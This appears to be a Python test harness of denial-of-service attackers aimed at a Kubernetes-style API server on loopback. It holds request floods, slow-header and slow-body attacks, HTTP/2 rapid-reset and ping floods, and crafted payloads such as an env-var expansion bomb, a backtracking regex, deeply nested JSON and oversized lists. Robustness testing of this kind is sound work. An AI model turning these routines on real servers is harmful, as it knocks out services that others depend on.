"""Attackers, each in its own process: (port, credentials, seconds, random) until the time is up. What they send is
bounded in number and size, and goes to the loopback interface only."""
import contextlib
import json
import socket
import ssl
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
COLLECTION = "/api/v1/namespaces/default/configmaps"


def connect(port, credentials=None, protocols=("http/1.1",)):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(list(protocols))
    if credentials:
        context.load_cert_chain(*credentials)
    plain = socket.create_connection(("127.0.0.1", port), timeout=5)
    return context.wrap_socket(plain)


@contextlib.contextmanager
def connections(count, port, credentials=None, protocols=("http/1.1",)):
    opened = []
    try:
        for _ in range(count):
            with contextlib.suppress(OSError):
                opened.append(connect(port, credentials, protocols))
        yield opened
    finally:
        for each in opened:
            with contextlib.suppress(OSError):
                each.close()


def send(connection, data):
    """False if the server has closed the connection."""
    try:
        connection.sendall(data)
        return True
    except OSError:
        return False


def flood(port, _credentials, seconds, _random):
    """Cheap requests without credentials, as fast as they go."""
    request = b"GET /api/v1/secrets HTTP/1.1\r\nHost: x\r\n\r\n"
    deadline = time.monotonic() + seconds
    with connections(20, port) as opened:
        while opened and time.monotonic() < deadline:
            opened = [each for each in opened if send(each, request * 20)]
            for each in opened:
                each.settimeout(0.01)
                with contextlib.suppress(OSError):
                    each.recv(65536)


def slow_headers(port, _credentials, seconds, _random):
    deadline = time.monotonic() + seconds
    with connections(200, port) as opened:
        for each in opened:
            send(each, b"GET / HTTP/1.1\r\nHost: x\r\n")
        while opened and time.monotonic() < deadline:
            opened = [each for each in opened if send(each, b"X-A: b\r\n")]
            time.sleep(0.5)


def slow_bodies(port, credentials, seconds, random):
    deadline = time.monotonic() + seconds
    head = (f"POST {COLLECTION} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
            f"Content-Length: {3 << 20}\r\n\r\n").encode()
    with connections(150, port, random.choice([None, credentials])) as opened:
        opened = [each for each in opened if send(each, head)]
        while opened and time.monotonic() < deadline:
            opened = [each for each in opened if send(each, b" " * 20000)]
            time.sleep(0.2)


def unread_watches(port, credentials, seconds, _random):
    deadline = time.monotonic() + seconds
    with connections(60, port, credentials) as opened:
        for each in opened:
            with contextlib.suppress(OSError):
                each.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            send(each, f"GET {COLLECTION}?watch=true HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        while time.monotonic() < deadline:
            time.sleep(0.5)


def worst_bodies():
    labels = {f"-{i}": "" for i in range(100_000)}
    yield "POST", COLLECTION, {"metadata": {"name": "a", "labels": labels}}
    yield "POST", COLLECTION, {"metadata": {"name": "a"}, "data": {f"k{i}": "" for i in range(150_000)}}
    owners = [{"apiVersion": "v1", "kind": "Pod", "name": f"p{i}", "uid": f"{i}"} for i in range(10_000)]
    yield "POST", COLLECTION, {"metadata": {"name": "owned", "ownerReferences": owners}}
    yield "POST", COLLECTION, {"metadata": {"name": "a", "finalizers": [f"x/{i}" for i in range(100_000)]}}
    environment = [{"name": "V0", "value": "x" * 64}]
    environment += [{"name": f"V{i}", "value": f"$(V{i - 1})$(V{i - 1})"} for i in range(1, 40)]
    yield "POST", "/api/v1/namespaces/default/pods", {
        "metadata": {"name": "bomb"}, "spec": {"containers": [{"name": "c", "image": "x", "env": environment}]}}
    term = {"topologyKey": "made-up", "namespaceSelector": {}, "labelSelector": {
        "matchExpressions": [{"key": "a", "operator": "NotIn", "values": ["b"]}]}}
    affinity = {"podAntiAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": [
        dict(term, topologyKey=f"made-up-{i}") for i in range(5_000)]}}
    yield "POST", "/api/v1/namespaces/default/pods", {"metadata": {"generateName": "lonely-"}, "spec": {
        "affinity": affinity, "containers": [{"name": "c", "image": "x"}]}}
    few = {"podAntiAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": affinity["podAntiAffinity"][
        "requiredDuringSchedulingIgnoredDuringExecution"][:64]}}
    yield "POST", "/api/v1/namespaces/default/pods", {"metadata": {"generateName": "alone-"}, "spec": {
        "affinity": few, "containers": [{"name": "c", "image": "x"}]}}
    yield "POST", "/api/v1/namespaces/default/pods", {"metadata": {"generateName": "tolerant-"}, "spec": {
        "tolerations": [{"key": f"k{i}", "operator": "Exists"} for i in range(20_000)],
        "containers": [{"name": "c", "image": "x"}]}}
    pattern = "device.driver.matches('" + "(a|b)*a(a|b){900}c" + "')"
    yield "POST", "/apis/resource.k8s.io/v1/deviceclasses", {
        "metadata": {"generateName": "c-"}, "spec": {"selectors": [{"cel": {"expression": pattern}}] * 30}}
    yield "POST", "/apis/apiextensions.k8s.io/v1/customresourcedefinitions", {
        "metadata": {"name": "ships.example.com"}, "spec": {
            "group": "example.com", "scope": "Cluster", "names": {"plural": "ships", "kind": "Ship"},
            "versions": [{"name": "v1", "served": True, "storage": True, "schema": {"openAPIV3Schema": {
                "type": "object", "properties": {"spec": {"type": "object", "properties": {"crew": {
                    "type": "array", "items": {"type": "object", "properties": {
                        "text": {"type": "string", "default": "x" * 20_000}}}}}}}}}}]}}
    yield "POST", "/apis/example.com/v1/ships", {
        "apiVersion": "example.com/v1", "kind": "Ship", "metadata": {"generateName": "s-"}, "spec": {"crew": [{}] * 100_000}}
    selector = "&&".join(["device.driver == 'a'"] * 5000)
    yield "POST", "/apis/resource.k8s.io/v1/deviceclasses", {
        "metadata": {"name": "c"}, "spec": {"selectors": [{"cel": {"expression": selector}}]}}
    yield "PATCH", f"{COLLECTION}/kube-root-ca.crt", [{"op": "add", "path": f"/data/a{i}", "value": ""}
                                                      for i in range(10_000)]


def worst_case_bodies(port, credentials, seconds, random):
    deadline = time.monotonic() + seconds
    bodies = [(method, path, json.dumps(body)) for method, path, body in worst_bodies()]
    bodies.append(("POST", COLLECTION, "[" * (3 << 20)))
    bodies.append(("POST", COLLECTION, '{"a":' * 400_000))
    while time.monotonic() < deadline:
        method, path, body = random.choice(bodies)
        kind = "application/json-patch+json" if method == "PATCH" else "application/json"
        with contextlib.suppress(OSError), contextlib.closing(connect(port, credentials)) as connection:
            connection.settimeout(20)
            send(connection, (f"{method} {path} HTTP/1.1\r\nHost: x\r\nContent-Type: {kind}\r\n"
                              f"Content-Length: {len(body)}\r\n\r\n{body}").encode())
            connection.recv(1000)
        time.sleep(0.1)


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def http2_floods(port, _credentials, seconds, random):
    """Rapid resets, empty DATA frames, pings and settings."""
    deadline = time.monotonic() + seconds
    fields = b"\x82\x87\x84\x41\x01x"  # GET https / x
    post = b"\x83\x87\x84\x41\x01x"
    while time.monotonic() < deadline:
        kind = random.choice(["reset", "data", "ping", "settings", "headers"])
        with contextlib.suppress(OSError), contextlib.closing(connect(port, None, ("h2",))) as connection:
            send(connection, PREFACE + frame(4, 0, 0))
            if kind == "data":
                send(connection, frame(1, 4, 1, post))
            for i in range(200):
                if kind == "reset":
                    data = b"".join(frame(1, 5, 2 * (50 * i + j) + 1, fields) +
                                    frame(3, 0, 2 * (50 * i + j) + 1, struct.pack(">I", 8)) for j in range(50))
                elif kind == "data":
                    data = frame(0, 0, 1) * 500
                elif kind == "ping":
                    data = frame(6, 0, 0, b"12345678") * 200
                elif kind == "settings":
                    data = frame(4, 0, 0) * 300
                else:
                    data = frame(9, 0, 1, b"\x00" * 100) * 20
                if not send(connection, data) or time.monotonic() > deadline:
                    break


ALL = [flood, slow_headers, slow_bodies, unread_watches, worst_case_bodies, http2_floods]
